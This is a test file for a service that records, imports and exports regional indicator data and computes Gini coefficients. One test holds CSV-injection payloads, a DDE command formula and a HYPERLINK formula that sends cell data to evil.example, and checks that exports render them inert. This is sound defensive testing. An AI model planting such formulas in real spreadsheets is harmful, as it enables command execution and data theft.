import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { harmony, isoDate } from '@massline/shared';
import { errorCode, type ApiClient } from '../support/api-client';
import { startTestServer, type TestServer } from '../support/test-server';

const RECORD =
  'mutation ($input: RecordObservationInput!) { recordObservation(input: $input) { id value rawCount method revision source enteredByLabel indicatorCode } }';
const IMPORT =
  'mutation ($csv: String!) { importObservations(csv: $csv) { accepted rowCount written corrected errors { line reason errorReason column problem params } recomputedPeriods } }';

interface Report {
  accepted: boolean;
  rowCount: number;
  written: number;
  corrected: number;
  errors: {
    line: number;
    reason: string;
    errorReason: string;
    column: string | null;
    problem: string | null;
    params: Record<string, string | number> | null;
  }[];
  recomputedPeriods: string[];
}

describe('harmony: observations, import, export, Gini', () => {
  let server: TestServer;
  let county: ApiClient;
  let ids: Map<string, string>;
  const sql = <T>(text: string, params: unknown[] = []) => server.orm.em.fork().getConnection().execute<T[]>(text, params);
  /** As the tables' owner: the triggers hold even against it (the server's runtime role has no such grant at all). */
  const ownerSql = <T>(text: string, params: unknown[] = []) => server.ownerOrm.em.fork().getConnection().execute<T[]>(text, params);
  const observation = async (code: string, period: string, indicator: string) =>
    (
      await sql<{ value: number; revision: number; method: string }>(
        `select o.value, o.revision, o.method from observation o join region r on r.id = o.region_id join indicator i on i.id = o.indicator_id
          where r.code = ? and o.period = ? and i.code = ?`,
        [code, period, indicator],
      )
    )[0];
  const assessmentIndex = async (code: string, period: string) =>
    (
      await sql<{ index: number }>(
        `select a.index from assessment a join region r on r.id = a.region_id join methodology_version v on v.id = a.methodology_version_id where v.active and r.code = ? and a.period = ?`,
        [code, period],
      )
    )[0]?.index;

  beforeAll(async () => {
    server = await startTestServer();
    county = await server.as('orgIn');
    const rows = await sql<{ id: string; code: string }>(`select id, code from region`);
    ids = new Map(rows.map((r) => [r.code, r.id]));
  });
  afterAll(() => server?.close());

  it('records a value, recomputes the assessments of its period, and keeps every earlier value on correction', async () => {
    const before = await assessmentIndex('880101001', '2026-Q3');
    const input = {
      regionId: ids.get('880101001'),
      period: '2026-Q3',
      indicatorCode: 'CADRE_TRUST',
      value: 99.5,
      source: 'Survey, second wave',
    };
    const { recordObservation } = await county.ok<{ recordObservation: { revision: number; method: string; enteredByLabel: string } }>(
      RECORD,
      { input },
    );
    expect(recordObservation).toMatchObject({ revision: 2, method: 'DIRECT', enteredByLabel: 'county@massline.demo' });
    expect(await assessmentIndex('880101001', '2026-Q3')).toBeGreaterThan(before);

    const again = await county.ok<{ recordObservation: { id: string; revision: number } }>(RECORD, { input: { ...input, value: 60 } });
    expect(again.recordObservation.revision).toBe(3);
    const { observationRevisions } = await county.ok<{
      observationRevisions: { revision: number; value: number; enteredByLabel: string | null; replacedByLabel: string }[];
    }>('query ($id: ID!) { observationRevisions(observationId: $id) { revision value enteredByLabel replacedByLabel } }', {
      id: again.recordObservation.id,
    });
    expect(observationRevisions.map((r) => [r.revision, r.value])).toEqual([
      [2, 99.5],
      [1, expect.any(Number)],
    ]);
    expect(observationRevisions[0]).toMatchObject({ enteredByLabel: 'county@massline.demo', replacedByLabel: 'county@massline.demo' });
    await expect(ownerSql('update observation_revision set value = 0')).rejects.toThrow(/append-only/);

    const { auditEntries } = await county.ok<{
      auditEntries: { edges: { node: { before: { value: number }; after: { value: number } } }[] };
    }>('{ auditEntries(first: 1, filter: { action: "observation.correct" }) { edges { node { before after } } } }');
    expect(auditEntries.edges[0].node).toMatchObject({ before: { value: 99.5 }, after: { value: 60 } });
  });

  it('turns a raw count into a rate with the population of the period (from its year)', async () => {
    const [stats] = await sql<{ population: number }>(`select population from region_statistics where region_id = ? and period = '2026'`, [
      ids.get('880101002'),
    ]);
    const { recordObservation } = await county.ok<{ recordObservation: { value: number; rawCount: number; method: string } }>(RECORD, {
      input: { regionId: ids.get('880101002'), period: '2026-Q3', indicatorCode: 'PETITIONS', rawCount: 57 },
    });
    expect(recordObservation.method).toBe('FROM_COUNT');
    expect(recordObservation.rawCount).toBe(57);
    expect(recordObservation.value).toBeCloseTo((57 / stats.population) * 10_000, 10);
  });

  it.each([
    ['both a value and a count', { indicatorCode: 'PETITIONS', value: 3, rawCount: 5 }, 'BAD_USER_INPUT', 'value'],
    ['a Gini above 1', { indicatorCode: 'GINI', value: 1.5 }, 'BAD_USER_INPUT', 'value'],
    ['a percentage above 100', { indicatorCode: 'HOT_ISSUES', value: 120 }, 'BAD_USER_INPUT', 'value'],
    ['a count above its total', { indicatorCode: 'HOT_ISSUES', rawCount: 61, rawTotal: 60 }, 'BAD_USER_INPUT', 'rawCount'],
    ['an unknown indicator', { indicatorCode: 'NOPE', value: 1 }, 'BAD_USER_INPUT', 'indicatorCode'],
    ['a bad period', { indicatorCode: 'GINI', value: 0.3, period: '2026-Q5' }, 'BAD_USER_INPUT', 'period'],
    [
      'a count without a population for the period',
      { indicatorCode: 'PETITIONS', rawCount: 3, period: '2021-Q1' },
      'BAD_USER_INPUT',
      'rawCount',
    ],
  ])('refuses %s, with the field to blame, and writes nothing', async (_name, change, code, field) => {
    const before = await sql<{ n: string }>('select count(*)::text as n from observation');
    const answer = await county.request(RECORD, { input: { regionId: ids.get('880101003'), period: '2026-Q3', ...change } });
    expect(errorCode(answer)).toBe(code);
    expect(answer.errors[0].extensions?.fields).toHaveProperty(field);
    // The same refusal as a problem code with parameters, which the console words in its reader's language.
    expect(answer.errors[0].extensions?.problems?.[field]?.reason).toMatch(/^[A-Z_]+$/);
    expect(await sql<{ n: string }>('select count(*)::text as n from observation')).toEqual(before);
  });

  it('gives a value out of range as the indicator, the bounds and the value, in English and as parameters', async () => {
    const answer = await county.request(RECORD, {
      input: { regionId: ids.get('880101003'), period: '2026-Q3', indicatorCode: 'HOT_ISSUES', value: 150 },
    });
    expect(answer.errors[0].message).toBe('HOT_ISSUES must be between 0 and 100, got 150');
    expect(answer.errors[0].extensions).toMatchObject({
      code: 'BAD_USER_INPUT',
      reason: 'INVALID_OBSERVATION',
      fields: { value: 'HOT_ISSUES must be between 0 and 100, got 150' },
      problems: { value: { reason: 'OUT_OF_RANGE', params: { indicator: 'HOT_ISSUES', min: 0, max: 100, got: 150 } } },
    });
  });

  it('refuses a region outside the jurisdiction, and an auditor altogether', async () => {
    const input = { regionId: ids.get('880102001'), period: '2026-Q3', indicatorCode: 'GINI', value: 0.3 };
    expect(errorCode(await county.request(RECORD, { input }))).toBe('FORBIDDEN');
    expect(errorCode(await (await server.as('auditor')).request(RECORD, { input: { ...input, regionId: ids.get('880101001') } }))).toBe(
      'FORBIDDEN',
    );
  });

  it('imports all rows or none: one bad row and nothing is written; fixed, everything is', async () => {
    const good = [
      '880101001,2026-Q3,GINI,0.311,,,bureau',
      '880101002,2026-Q3,PETITIONS,,40,,bureau',
      '880101003,2026-Q3,HOT_ISSUES,,30,40,office',
    ];
    const csv = (rows: string[]) => ['region_code,period,indicator,value,raw_count,raw_total,source', ...rows].join('\n');
    const before = await observation('880101001', '2026-Q3', 'GINI');
    const refused = await county.ok<{ importObservations: Report }>(IMPORT, { csv: csv([...good, '880101004,2026-Q3,GINI,1.7,,,typo']) });
    expect(refused.importObservations).toMatchObject({ accepted: false, rowCount: 4, written: 0 });
    expect(refused.importObservations.errors).toEqual([
      {
        line: 5,
        reason: 'GINI must be between 0 and 1, got 1.7',
        errorReason: 'INVALID_OBSERVATION',
        column: 'value',
        problem: 'OUT_OF_RANGE',
        params: { indicator: 'GINI', min: 0, max: 1, got: 1.7 },
      },
    ]);
    expect(await observation('880101001', '2026-Q3', 'GINI')).toEqual(before);

    const accepted = await county.ok<{ importObservations: Report }>(IMPORT, {
      csv: csv([...good, '880101004,2026-Q3,GINI,0.37,,,fixed']),
    });
    expect(accepted.importObservations).toMatchObject({ accepted: true, rowCount: 4, written: 4, corrected: 4, errors: [] });
    // A value for a period with no observation yet is new, not a correction.
    const fresh = await county.ok<{ importObservations: Report }>(IMPORT, {
      csv: csv(['880101001,2026-Q4,GINI,0.33,,,bureau', '880101001,2026-Q3,GINI,0.311,,,bureau']),
    });
    expect(fresh.importObservations).toMatchObject({ accepted: true, written: 2, corrected: 1 });
    expect(accepted.importObservations.recomputedPeriods).toContain('2026-Q3');
    expect((await observation('880101001', '2026-Q3', 'GINI')).value).toBe(0.311);
    expect((await observation('880101003', '2026-Q3', 'HOT_ISSUES')).value).toBe(75);
  });

  it('lists every bad row with its line and reason', async () => {
    const csv = [
      'region_code,period,indicator,value,raw_count,raw_total,source',
      '999999,2026-Q3,GINI,0.3,,,', // 2 unknown region
      '880102001,2026-Q3,GINI,0.3,,,', // 3 sibling county
      '880101001,2026-13,GINI,0.3,,,', // 4 bad period
      '880101001,2026-Q3,NOPE,1,,,', // 5 unknown indicator
      '880101001,2026-Q3,GINI,abc,,,', // 6 not a number
      '880101001,2026-Q3,PETITIONS,3,5,,', // 7 value and count
      '880101001,2021-Q1,PETITIONS,,5,,', // 8 no population
      '880101002,2026-Q3,GINI,0.3,,,', // 9 fine
      '880101002,2026-Q3,GINI,0.31,,,', // 10 duplicate of 9
    ].join('\n');
    const { importObservations } = await county.ok<{ importObservations: Report }>(IMPORT, { csv });
    expect(importObservations.accepted).toBe(false);
    expect(importObservations.errors.map((e) => e.line)).toEqual([2, 3, 4, 5, 6, 7, 8, 10]);
    const reasons = importObservations.errors.map((e) => e.reason).join('\n');
    for (const expected of [
      /no region with code "999999"/i,
      /outside your jurisdiction/i,
      /not a period/,
      /no indicator "NOPE"/i,
      /"abc" is not a number/,
      /either a value or a raw count/i,
      /no population/i,
      /same region, period and indicator as line 9/i,
    ]) {
      expect(reasons).toMatch(expected);
    }
    // Each row also as a problem code with its parameters, for clients to word in their reader's language.
    expect(importObservations.errors.map(({ problem, params }) => [problem, params])).toEqual([
      ['UNKNOWN_REGION_CODE', { code: '999999' }],
      ['REGION_OUTSIDE_JURISDICTION', { region: '880102001' }],
      ['INVALID_PERIOD', { got: '2026-13' }],
      ['NO_SUCH_INDICATOR', { code: 'NOPE' }],
      ['NOT_A_NUMBER', { column: 'value', got: 'abc' }],
      ['VALUE_OR_COUNT', {}],
      ['MISSING_DENOMINATOR', { region: '880101001', period: '2021-Q1' }],
      ['CSV_DUPLICATE_ROW', { line: 9 }],
    ]);
  });

  it('refuses a file that is not the expected CSV', async () => {
    for (const [csv, pattern] of [
      ['', /empty/],
      ['region,when\n1,2', /header needs/],
      ['region_code,period,indicator,value\n"880101001,2026-Q3', /never closed/],
      ['region_code,period,indicator,value\n', /No rows/],
    ] as const) {
      const { importObservations } = await county.ok<{ importObservations: Report }>(IMPORT, { csv });
      expect(importObservations.accepted).toBe(false);
      expect(importObservations.errors[0].reason).toMatch(pattern);
    }
  });

  it('exports the observations of a filter as CSV, which re-imports unchanged', async () => {
    const { observationsCsv } = await county.ok<{ observationsCsv: string }>(
      'query ($f: ObservationFilter) { observationsCsv(filter: $f) }',
      {
        f: { withinId: ids.get('880101'), period: '2025-Q4' },
      },
    );
    const lines = observationsCsv.trim().split(/\r\n/);
    expect(lines[0]).toBe('region_code,period,indicator,value,raw_count,raw_total,source');
    expect(lines).toHaveLength(1 + 5 * 7); // the county and its 4 townships, 7 indicators
    const before = await assessmentIndex('880101', '2025-Q4');
    const { importObservations } = await county.ok<{ importObservations: Report }>(IMPORT, { csv: observationsCsv });
    expect(importObservations).toMatchObject({ accepted: true, written: 35, corrected: 35 });
    expect(await assessmentIndex('880101', '2025-Q4')).toBeCloseTo(before, 9);
    const sibling = await (
      await server.as('orgOut')
    ).ok<{ observationsCsv: string }>('query ($f: ObservationFilter) { observationsCsv(filter: $f) }', {
      f: { withinId: ids.get('880101'), period: '2025-Q4' },
    });
    expect(sibling.observationsCsv.trim().split(/\r\n/)).toHaveLength(1);
  });

  it('exports a source that a spreadsheet would run as a formula as inert text, and re-imports it unchanged', async () => {
    const formulas = [`=cmd|' /C calc'!A0`, '=HYPERLINK("http://evil.example/?x="&A2,"s")', '+1', '-1', '@SUM(A1)'];
    const indicators = ['PETITIONS', 'MASS_INCIDENTS', 'HOT_ISSUES', 'PARTY_APPLICATIONS', 'CADRE_TRUST'];
    for (const [i, source] of formulas.entries()) {
      await county.ok(RECORD, {
        input: { regionId: ids.get('880101002'), period: '2024-Q1', indicatorCode: indicators[i], value: 50 + i, source },
      });
    }
    const { observationsCsv } = await county.ok<{ observationsCsv: string }>(
      'query ($f: ObservationFilter) { observationsCsv(filter: $f) }',
      { f: { withinId: ids.get('880101002'), period: '2024-Q1' } },
    );
    for (const source of formulas) {
      const row = observationsCsv.split(/\r\n/).find((line) => line.includes(source.replace(/"/g, '""')));
      expect(row, source).toBeDefined();
      // The cell starts with an apostrophe (quoted or not): no spreadsheet evaluates it.
      expect(row!).toMatch(/,"?'[=+\-@]/);
    }
    expect(observationsCsv.trim().split(/\r\n/)).toHaveLength(1 + 7);
    const { importObservations } = await county.ok<{ importObservations: Report }>(IMPORT, { csv: observationsCsv });
    expect(importObservations).toMatchObject({ accepted: true, written: 7 });
    const sources = await sql<{ source: string }>(
      `select o.source from observation o join region r on r.id = o.region_id where r.code = '880101002' and o.period = '2024-Q1'`,
    );
    expect(sources.map((row) => row.source)).toEqual(expect.arrayContaining(formulas));
  });

  it('computes the Gini from microdata (weighted or not) and records it with its method', async () => {
    const incomes = [12, 18, 25, 31, 40, 55, 70, 95, 130, 210];
    const weights = [3, 2, 2, 1, 1, 1, 1, 1, 1, 1];
    const MICRO =
      'mutation ($input: GiniFromMicrodataInput!) { computeGiniFromMicrodata(input: $input) { gini method households observation { value method source } } }';
    const plain = await county.ok<{
      computeGiniFromMicrodata: { gini: number; method: string; households: number; observation: { value: number; method: string } };
    }>(MICRO, {
      input: { regionId: ids.get('880101004'), period: '2026-Q3', csv: ['income', ...incomes].join('\n') },
    });
    expect(plain.computeGiniFromMicrodata.gini).toBeCloseTo(harmony.giniFromMicrodata(incomes), 12);
    expect(plain.computeGiniFromMicrodata).toMatchObject({
      method: 'GINI_MICRODATA',
      households: 10,
      observation: { method: 'GINI_MICRODATA' },
    });
    const weighted = await county.ok<{ computeGiniFromMicrodata: { gini: number } }>(MICRO, {
      input: {
        regionId: ids.get('880101004'),
        period: '2026-Q3',
        csv: ['income,weight', ...incomes.map((x, i) => `${x},${weights[i]}`)].join('\n'),
      },
    });
    expect(weighted.computeGiniFromMicrodata.gini).toBeCloseTo(harmony.giniFromMicrodata(incomes, weights), 12);
    expect((await observation('880101004', '2026-Q3', 'GINI')).method).toBe('GINI_MICRODATA');

    for (const csv of ['income\n-5\n10', 'income\nabc', 'salary\n10', 'income\n0\n0']) {
      const refused = await county.request(MICRO, { input: { regionId: ids.get('880101004'), period: '2026-Q3', csv } });
      expect(errorCode(refused), csv).toBe('BAD_USER_INPUT');
      expect(refused.errors[0].extensions?.fields).toHaveProperty('csv');
    }
  });

  it('computes the Gini from shares: Lorenz-quadratic when the fit is valid, else linear interpolation, saying why', async () => {
    const SHARES =
      'mutation ($input: GiniFromSharesInput!) { computeGiniFromShares(input: $input) { gini method fit { valid } fallbackReasons observation { method } } }';
    // Quintile shares of a log-normal income distribution (σ = 0.8): the quadratic curve fits.
    const lognormal = [5.32, 10.71, 15.95, 23.25, 44.77];
    const fitted = await county.ok<{ computeGiniFromShares: { gini: number; method: string; fit: { valid: boolean } } }>(SHARES, {
      input: { regionId: ids.get('880101004'), period: '2026-Q2', shares: lognormal },
    });
    expect(fitted.computeGiniFromShares).toMatchObject({ method: 'GINI_LORENZ_QUADRATIC', fit: { valid: true } });
    expect(fitted.computeGiniFromShares.gini).toBeCloseTo(harmony.giniFromShares(lognormal).gini, 12);
    // Perfect equality cannot be fitted (singular regression): the linear lower bound, 0.
    const equal = await county.ok<{ computeGiniFromShares: { gini: number; method: string; fallbackReasons: string[] } }>(SHARES, {
      input: { regionId: ids.get('880101004'), period: '2026-Q1', shares: [20, 20, 20, 20, 20] },
    });
    expect(equal.computeGiniFromShares.method).toBe('GINI_LINEAR_INTERPOLATION');
    expect(equal.computeGiniFromShares.gini).toBe(0);
    expect(equal.computeGiniFromShares.fallbackReasons.length).toBeGreaterThan(0);
    const bad = await county.request(SHARES, { input: { regionId: ids.get('880101004'), period: '2026-Q1', shares: [50, 40, 5, 3, 2] } });
    expect(errorCode(bad)).toBe('BAD_USER_INPUT');
  });

  it('refuses a period that has not begun, from the form, a CSV row and the Gini tools, and takes the running one', async () => {
    const today = isoDate();
    const nextYear = `${Number(today.slice(0, 4)) + 1}-Q1`;
    const farFuture = `${Number(today.slice(0, 4)) + 4}-Q1`;
    const running = `${today.slice(0, 4)}-Q${Math.ceil(Number(today.slice(5, 7)) / 3)}`;
    const before = await sql<{ n: string }>('select count(*)::text as n from observation');
    for (const period of [nextYear, farFuture]) {
      const answer = await county.request(RECORD, { input: { regionId: ids.get('880101003'), period, indicatorCode: 'GINI', value: 0.3 } });
      expect(errorCode(answer)).toBe('BAD_USER_INPUT');
      expect(answer.errors[0].extensions?.reason).toBe('FUTURE_PERIOD');
      expect(answer.errors[0].extensions?.fields).toHaveProperty('period');
    }
    const gini = await county.request('mutation ($input: GiniFromMicrodataInput!) { computeGiniFromMicrodata(input: $input) { gini } }', {
      input: { regionId: ids.get('880101004'), period: farFuture, csv: 'income\n10\n20\n30' },
    });
    expect(gini.errors[0].extensions?.reason).toBe('FUTURE_PERIOD');
    const csv = [
      'region_code,period,indicator,value,raw_count,raw_total,source',
      '880101001,2026-Q3,GINI,0.3,,,',
      `880101002,${farFuture},GINI,0.3,,,`,
    ];
    const { importObservations } = await county.ok<{ importObservations: Report }>(IMPORT, { csv: csv.join('\n') });
    expect(importObservations.accepted).toBe(false);
    expect(importObservations.errors.map((e) => e.line)).toEqual([3]);
    expect(importObservations.errors[0].reason).toMatch(/has not begun/);
    expect(await sql<{ n: string }>('select count(*)::text as n from observation')).toEqual(before);
    // The running quarter has begun: its figures may be entered as they come.
    const current = await county.ok<{ recordObservation: { value: number } }>(RECORD, {
      input: { regionId: ids.get('880101003'), period: running, indicatorCode: 'GINI', value: 0.3 },
    });
    expect(current.recordObservation.value).toBe(0.3);
  });
});
